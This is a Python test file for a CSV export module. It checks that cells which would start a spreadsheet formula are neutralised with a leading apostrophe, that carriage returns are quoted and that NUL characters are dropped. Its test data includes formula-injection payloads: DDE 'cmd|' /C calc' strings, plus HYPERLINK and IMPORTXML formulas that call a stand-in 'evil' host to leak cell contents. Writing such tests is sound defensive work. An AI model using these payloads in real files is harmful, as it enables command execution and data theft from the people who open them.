"""CSV cells that are safe to open in a spreadsheet, in a dialect that does not depend on the Python version.

Issue items: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a CR gets a leading ``'`` (formula
neutralisation, a deliberate difference from 2019); a field holding a CR or an LF is always quoted (2019 wrote a
bare CR unquoted, so readers split the row); NUL characters never reach a CSV. The expected bytes are worked
out by hand from the dialect of pipeline.md 9.5 plus these rules.
"""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import pytest
from record_csv import write_records

from redss_pipeline.export.analysis_files import write_icr_csv
from redss_pipeline.export.csv_cells import neutralise, write_csv


@pytest.mark.parametrize(
    "text, expected",
    [
        ('=HYPERLINK("http://evil/","x")', '\'=HYPERLINK("http://evil/","x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ('@SUM(1+1)*cmd|" /C calc"!A0', '\'@SUM(1+1)*cmd|" /C calc"!A0'),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1", "'-1"),  # a listener's text, not a number of ours: no output column holds negative numbers
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width = + - @, formulas in East Asian locales
        ("\uff0bSUM(1,2)", "'\uff0bSUM(1,2)"),
        ("\uff0d2+3", "'\uff0d2+3"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        (" =1+1", "' =1+1"),  # importers that trim leading spaces would read a formula
        ("\u00a0\u00a0+cmd", "'\u00a0\u00a0+cmd"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        ("\u200b@SUM(A1)", "'\u200b@SUM(A1)"),
        ("\u200e=1+1", "'\u200e=1+1"),  # a left-to-right mark, invisible
        ("\u00ad=1", "'\u00ad=1"),  # a soft hyphen, invisible
        ("\u3000=1", "'\u3000=1"),  # an ideographic space
        ("  hello", "  hello"),
        ("hello = world", "hello = world"),
        ("", ""),
        ("'already quoted", "'already quoted"),
        ("avf-phone-uuid-0001", "avf-phone-uuid-0001"),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_leading_apostrophe(text, expected):
    assert neutralise(text) == expected


def test_formula_cells_are_neutralised_in_the_analysis_file(tmp_path: Path):
    """The planted formulas of the issue come out as text; other cells, including the header, are unchanged."""
    path = tmp_path / "csap_mes.csv"
    records = [
        {"uid": "avf-phone-uuid-1", "rqa_s01e01_raw": '=IMPORTXML("http://evil/?"&A2, "//a")', "age": "25"},
        {"uid": "avf-phone-uuid-2", "rqa_s01e01_raw": "@SUM(A1:A9)", "age": "NR"},
    ]
    write_records(path, records, ["uid", "rqa_s01e01_raw", "age"])
    assert path.read_bytes() == (
        b"uid,rqa_s01e01_raw,age\n"
        b'avf-phone-uuid-1,"\'=IMPORTXML(""http://evil/?""&A2, ""//a"")",25\n'
        b"avf-phone-uuid-2,'@SUM(A1:A9),NR\n"
    )


def test_formula_cells_are_neutralised_in_the_icr_file(tmp_path: Path, config):
    plan = config.rqa_plan("s01e01")
    path = tmp_path / "s01e01.csv"
    write_icr_csv(path, plan, [{plan.run_id_field: 7, plan.raw_field: "+254 cmd"}, {plan.run_id_field: None,
                                                                                    plan.raw_field: "ok"}])
    assert path.read_bytes() == b"rqa_s01e01_run_id,rqa_s01e01_raw\n7,'+254 cmd\n,ok\n"


def test_a_bare_carriage_return_is_quoted_so_the_row_stays_one_row(tmp_path: Path):
    """2019 wrote ``a\\rb`` unquoted with the ``\\n`` terminator; any reader then splits the row there."""
    path = tmp_path / "csap_prod.csv"
    write_records(path, [{"uid": "u1", "raw": "first\rsecond"}, {"uid": "u2", "raw": "one\ntwo"}],
                       ["uid", "raw"])
    assert path.read_bytes() == b'uid,raw\nu1,"first\rsecond"\nu2,"one\ntwo"\n'
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["uid", "raw"], ["u1", "first\rsecond"], ["u2", "one\ntwo"]]


def test_a_cell_starting_with_a_carriage_return_is_neutralised_and_quoted(tmp_path: Path):
    path = tmp_path / "x.csv"
    write_records(path, [{"raw": "\r=1+1", "n": "2"}], ["raw", "n"])
    assert path.read_bytes() == b"raw,n\n\"'\r=1+1\",2\n"


def test_nul_characters_never_reach_a_csv(tmp_path: Path):
    path = tmp_path / "x.csv"
    write_records(path, [{"raw": "a\x00b", "n": "\x00=1"}], ["raw", "n"])
    assert b"\x00" not in path.read_bytes()
    assert path.read_bytes() == b"raw,n\nab,'=1\n"


def test_the_shared_writer_keeps_the_2019_dialect_for_ordinary_cells(tmp_path: Path):
    """Commas and quotes quoted, quotes doubled, integers in decimal, None empty, ``\\n`` rows, no BOM, the
    header written with no rows, and a lone empty field written as ``""`` (as Python's csv module does)."""
    path = tmp_path / "table.csv"
    write_csv(path, ["name", "count", "note"], [["a, b", 3, None], ['say "hi"', 0, "Xamar – Weyne"]])
    assert path.read_bytes() == (
        'name,count,note\n"a, b",3,\n"say ""hi""",0,Xamar – Weyne\n'.encode("utf-8")
    )
    empty = tmp_path / "empty.csv"
    write_csv(empty, ["only"], [[""], [None]])
    assert empty.read_bytes() == b'only\n""\n""\n'


def test_a_computed_negative_number_is_written_as_a_number_in_both_dialects(tmp_path: Path):
    """A number the pipeline computed (a negative kappa as ``Decimal``, a count as ``int``) is no formula: written as
    it is, quoted in the all-quoted tables; the same characters typed as text by a listener are neutralised."""
    plain, quoted = tmp_path / "plain.csv", tmp_path / "quoted.csv"
    rows = [[Decimal("-0.250"), -3, "-3"]]
    write_csv(plain, ["kappa", "n", "typed"], rows)
    write_csv(quoted, ["kappa", "n", "typed"], rows, quote_all=True)
    assert plain.read_bytes() == b"kappa,n,typed\n-0.250,-3,'-3\n"
    assert quoted.read_bytes() == b'"kappa","n","typed"\n"-0.250","-3","\'-3"\n'
